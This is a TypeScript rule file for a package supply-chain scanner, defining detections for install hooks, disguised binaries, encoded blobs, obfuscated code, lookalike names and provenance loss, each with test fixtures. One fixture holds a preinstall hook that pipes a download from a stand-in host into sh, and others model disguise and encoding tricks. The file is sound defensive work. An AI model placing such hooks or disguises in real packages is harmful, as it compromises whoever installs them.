import type { Rule } from '../rule.ts';
import type { RegistryRecord } from './registry-record.ts';

/** Examples are the files of a package and, where a rule asks for it, what the registry says and what the repository holds. */
export interface PackageExample {
  readonly files: Readonly<Record<string, string>>;
  readonly registry?: RegistryRecord;
  readonly repository?: Readonly<Record<string, string>>;
}

const manifest = (more: object): string => JSON.stringify({ name: 'example-server', version: '1.0.0', ...more });
const elf = '\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00';
const longScript = Array.from(
  { length: 40 },
  (_, index) => `var _0x${(index + 4096).toString(16)}=_0x${(index + 5000).toString(16)}('0x${index.toString(16)}');`,
).join('');
const program = `${'#!/bin/sh\n# '}${'harmless marker '.repeat(100)}`;

const release = (
  version: string,
  publishedAt: string,
  more: Partial<RegistryRecord['releases'][number]> = {},
): RegistryRecord['releases'][number] => ({
  version,
  publishedAt,
  publisher: 'author',
  hasProvenance: true,
  hasSignature: true,
  ...more,
});

const record = (version: string, releases: RegistryRecord['releases']): RegistryRecord => ({
  ecosystem: 'npm',
  name: 'example-server',
  version,
  releases,
});
const steady = record('1.1.0', [release('1.0.0', '2025-01-01T00:00:00Z'), release('1.1.0', '2025-06-01T00:00:00Z')]);

export const packageRules = {
  hook: {
    id: 'package/install-hook',
    title: 'Runs a program when it is installed',
    severity: 'low',
    axis: 'exposure',
    cwe: ['CWE-829'],
    owasp: ['MCP04'],
    what: 'A preinstall, install or postinstall script, an implied native build, a Python build that runs code of the package, or a .pth file that imports.',
    why: 'It runs with the rights of whoever installs, before anybody has looked at the package.',
    remediation:
      'Install with scripts switched off (`npm ci --ignore-scripts`, `pip install --only-binary :all:`), or inside a box.',
    fires: {
      files: {
        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
        'setup.js': 'console.log("thank you")',
      },
    },
    silent: {
      files: { 'package.json': manifest({ scripts: { build: 'tsc', test: 'vitest', prepublishOnly: 'tsc' } }) },
    },
  },
  dangerousHook: {
    id: 'package/install-hook-reaches-out',
    title: 'What runs on install downloads, decodes or reads secrets',
    severity: 'high',
    axis: 'hostility',
    cwe: ['CWE-506', 'CWE-829'],
    owasp: ['MCP04'],
    what: 'An install hook, or the file it starts, fetches a program and runs it, runs decoded text, or reads credentials and talks to the network.',
    why: 'This is what malicious packages do; few honest ones need it.',
    remediation: 'Do not install it outside of a box. Read the hook; look for a release without it.',
    fires: {
      files: { 'package.json': manifest({ scripts: { preinstall: 'curl -s https://example.invalid/x | sh' } }) },
    },
    silent: {
      files: {
        'package.json': manifest({
          scripts: { postinstall: 'node -e "process.exit(0)"', install: 'node-gyp rebuild' },
        }),
      },
    },
  },
  shadowing: {
    id: 'package/bin-shadowing',
    title: 'Installs a command with the name of a well-known one',
    severity: 'medium',
    axis: 'hostility',
    cwe: ['CWE-426'],
    owasp: ['MCP04'],
    what: 'A `bin` entry or console script named like a command that others call without a path.',
    why: 'Scripts of the same project then run this file instead of the program they mean.',
    remediation: 'Refuse the package, or install it where its commands are not on the path.',
    fires: { files: { 'package.json': manifest({ bin: { git: './git.js' } }) } },
    silent: { files: { 'package.json': manifest({ bin: { 'example-server': './index.js' } }) } },
  },
  native: {
    id: 'package/native-code',
    title: 'Contains native code',
    severity: 'info',
    axis: 'exposure',
    cwe: ['CWE-1104'],
    owasp: ['MCP04'],
    what: 'Addons (.node), shared libraries, or a binding.gyp that builds one.',
    why: 'What native code does cannot be read from the sources of the package.',
    remediation: 'Know where it was built, and run it in a box.',
    fires: { files: { 'build/addon.node': elf } },
    silent: { files: { 'src/node.ts': 'export const node = 1;' } },
  },
  binary: {
    id: 'package/bundled-binary',
    title: 'Contains a program in machine code',
    severity: 'low',
    axis: 'exposure',
    cwe: ['CWE-1104'],
    owasp: ['MCP04'],
    what: 'A file that begins as ELF, PE or Mach-O programs do.',
    why: 'It is not covered by reading the sources, and is rarely built where it can be checked.',
    remediation: 'Compare its hash with a published build, or build it yourself.',
    fires: { files: { 'bin/helper': elf } },
    silent: { files: { 'bin/helper': '#!/usr/bin/env node\n' } },
  },
  disguised: {
    id: 'package/disguised-binary',
    title: 'A program under the name of something else',
    severity: 'high',
    axis: 'hostility',
    cwe: ['CWE-506'],
    owasp: ['MCP04'],
    what: 'Machine code in a file whose name says text, picture, font or data.',
    why: 'There is no honest reason to call a program logo.png.',
    remediation: 'Do not run the package; have the file analysed.',
    fires: { files: { 'assets/logo.png': elf } },
    silent: { files: { 'assets/logo.png': '\x89PNG\r\n' } },
  },
  obfuscated: {
    id: 'package/obfuscated-file',
    title: 'Code was made unreadable on purpose',
    severity: 'high',
    axis: 'hostility',
    cwe: ['CWE-506'],
    owasp: ['MCP04'],
    what: 'Names and string tables as obfuscators write them, packed code that is evaluated, code of escapes only.',
    why: 'Minifying makes code small; this makes it unreadable, and what it does cannot be judged.',
    remediation: 'Ask for the sources, or do not use it.',
    fires: { files: { 'dist/index.js': longScript } },
    silent: { files: { 'dist/index.js': `${'var a=function(b,c){return b+c};'.repeat(200)}` } },
  },
  minified: {
    id: 'package/minified-file',
    title: 'Code is minified',
    severity: 'info',
    axis: 'exposure',
    cwe: ['CWE-1104'],
    owasp: ['MCP04'],
    what: 'Own code in lines of thousands of characters, with no source map beside it.',
    why: 'It is analysed all the same, but people cannot check what is found.',
    remediation: 'Prefer packages that ship readable code or source maps.',
    fires: { files: { 'dist/index.js': 'var a=function(b,c){return b+c};'.repeat(200) } },
    silent: {
      files: { 'dist/index.js': 'export function add(left, right) {\n  return left + right;\n}\n'.repeat(100) },
    },
  },
  blob: {
    id: 'package/encoded-blob',
    title: 'A program hidden in encoded text',
    severity: 'high',
    axis: 'hostility',
    cwe: ['CWE-506'],
    owasp: ['MCP04'],
    what: 'A long base64 or hex text in code that decodes to a script or a program.',
    why: 'Encoding keeps what it does from readers and scanners.',
    remediation: 'Decode and read it before anything is run.',
    fires: { files: { 'index.js': `run(Buffer.from("${Buffer.from(program).toString('base64')}", "base64"))` } },
    silent: {
      files: {
        'index.js': `const icon = "data:image/png;base64,${Buffer.from('\x89PNG'.repeat(600)).toString('base64')}"`,
      },
    },
  },
  typosquat: {
    id: 'package/lookalike-name',
    title: 'Its name looks like that of a popular server',
    severity: 'medium',
    axis: 'hostility',
    cwe: ['CWE-1007'],
    owasp: ['MCP04', 'MCP09'],
    what: 'A name one or two letters away from a well-known server, or the same but for separators and look-alike characters.',
    why: 'Typing mistakes and quick reading install such packages instead of the real one.',
    remediation: 'Make sure that this is the package you mean, by its repository and authors.',
    fires: {
      files: { 'package.json': JSON.stringify({ name: '@modelcontextprotocoi/server-filesystem', version: '1.0.0' }) },
    },
    silent: {
      files: { 'package.json': JSON.stringify({ name: '@modelcontextprotocol/server-filesystem', version: '1.0.0' }) },
    },
  },
  provenance: {
    id: 'package/no-provenance',
    title: 'Nothing proves where it was built',
    severity: 'info',
    axis: 'exposure',
    cwe: ['CWE-345'],
    owasp: ['MCP04'],
    what: 'The registry has no provenance attestation for this version, or no signature at all.',
    why: 'A stolen token is then enough to publish under this name.',
    remediation: 'Prefer versions with provenance; pin this one by its hash.',
    fires: {
      files: {},
      registry: record('1.1.0', [
        release('1.0.0', '2025-01-01T00:00:00Z', { hasProvenance: false }),
        release('1.1.0', '2025-06-01T00:00:00Z', { hasProvenance: false }),
      ]),
    },
    silent: { files: {}, registry: steady },
  },
  provenanceLost: {
    id: 'package/provenance-lost',
    title: 'Earlier versions had proof of their build, this one has not',
    severity: 'medium',
    axis: 'hostility',
    cwe: ['CWE-345'],
    owasp: ['MCP04'],
    what: 'The version before was published with provenance and this one without.',
    why: 'It was published in another way than usual, such as by hand with a stolen token.',
    remediation: 'Stay on the version before until the authors explain the change.',
    fires: {
      files: {},
      registry: record('1.1.0', [
        release('1.0.0', '2025-01-01T00:00:00Z'),
        release('1.1.0', '2025-06-01T00:00:00Z', { hasProvenance: false }),
      ]),
    },
    silent: { files: {}, registry: steady },
  },
  fresh: {
    id: 'package/newly-published',
    title: 'Published very recently',
    severity: 'low',
    axis: 'exposure',
    cwe: ['CWE-1104'],
    owasp: ['MCP04'],
    what: 'This version is younger than three days, or the whole package younger than thirty.',
    why: 'Malicious releases are mostly found and removed within days.',
    remediation: 'Wait, or use a version that has been out for longer.',
    fires: {
      files: {},
      registry: record('1.1.0', [release('1.0.0', '2025-01-01T00:00:00Z'), release('1.1.0', '2026-11-14T12:00:00Z')]),
    },
    silent: { files: {}, registry: steady },
  },
  jump: {
    id: 'package/version-jump',
    title: 'The version makes a jump',
    severity: 'low',
    axis: 'hostility',
    cwe: ['CWE-1104'],
    owasp: ['MCP04'],
    what: 'The major version grew by ten or more at once, or a release came after more than a year of silence from somebody who had not published before.',
    why: 'A high number wins against private packages of the same name; a sudden new hand may have taken the package over.',
    remediation: 'Look at what changed between the two versions.',
    fires: {
      files: {},
      registry: record('99.0.0', [release('1.0.0', '2025-01-01T00:00:00Z'), release('99.0.0', '2025-06-01T00:00:00Z')]),
    },
    silent: {
      files: {},
      registry: record('2025.6.1', [
        release('0.6.2', '2025-01-01T00:00:00Z'),
        release('2025.6.1', '2025-06-01T00:00:00Z'),
      ]),
    },
  },
  withdrawn: {
    id: 'package/withdrawn-version',
    title: 'Its publishers have withdrawn this version',
    severity: 'low',
    axis: 'exposure',
    cwe: ['CWE-1104'],
    owasp: ['MCP04'],
    what: 'The registry marks the version as deprecated or yanked.',
    why: 'Mostly there is a reason, and often it is a weakness.',
    remediation: 'Use the version that the publishers name instead.',
    fires: { files: {}, registry: { ...steady, withdrawn: 'use 2.x' } },
    silent: { files: {}, registry: steady },
  },
  differs: {
    id: 'package/differs-from-repository',
    title: 'Published code is not the code of its repository',
    severity: 'medium',
    axis: 'hostility',
    cwe: ['CWE-494'],
    owasp: ['MCP04'],
    what: 'A source file that differs from the one at the same path of the repository, or is not there at all, outside of build output.',
    why: 'Readers check the repository; users get the package.',
    remediation: 'Compare the two, and trust the package only as far as you have read it.',
    fires: { files: { 'src/index.js': 'steal()' }, repository: { 'src/index.js': 'serve()' } },
    silent: {
      files: { 'src/index.js': 'serve()\r\n', 'dist/index.js': 'built' },
      repository: { 'src/index.js': 'serve()\n' },
    },
  },
} as const satisfies Readonly<Record<string, Rule<PackageExample>>>;
